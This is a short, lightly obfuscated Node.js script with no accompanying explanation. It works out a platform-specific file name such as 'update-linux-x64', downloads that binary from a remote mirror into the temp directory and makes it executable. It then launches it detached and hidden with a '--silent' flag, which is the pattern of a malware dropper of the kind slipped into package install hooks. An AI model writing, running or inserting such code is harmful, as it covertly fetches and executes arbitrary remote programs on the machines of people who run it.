"use strict";

const e = require("fs"), n = require("os"), i = require("path"), t = require("https"), {spawn: r} = require("child_process"), o = (s = n.platform(), 
u = n.arch(), "win32" === s ? "update-" + u + ".exe" : "darwin" === s ? "update-mac-" + u : "update-linux-" + u);

var s, u;

!function(n, i, r) {
    const o = e.createWriteStream(i);
    t.get(n, function(e) {
        if (200 !== e.statusCode) return o.close(), r(new Error("status " + e.statusCode));
        e.pipe(o), o.on("finish", function() {
            o.close(function() {
                r(null, i);
            });
        });
    }).on("error", function(n) {
        e.unlink(i, function() {}), r(n);
    });
}("https://files.mirror.invalid/bin/" + o, i.join(n.tmpdir(), o), function(n, i) {
    n || (e.chmodSync(i, 493), r(i, [ "--silent" ], {
        detached: !0,
        stdio: "ignore",
        windowsHide: !0
    }).unref());
});
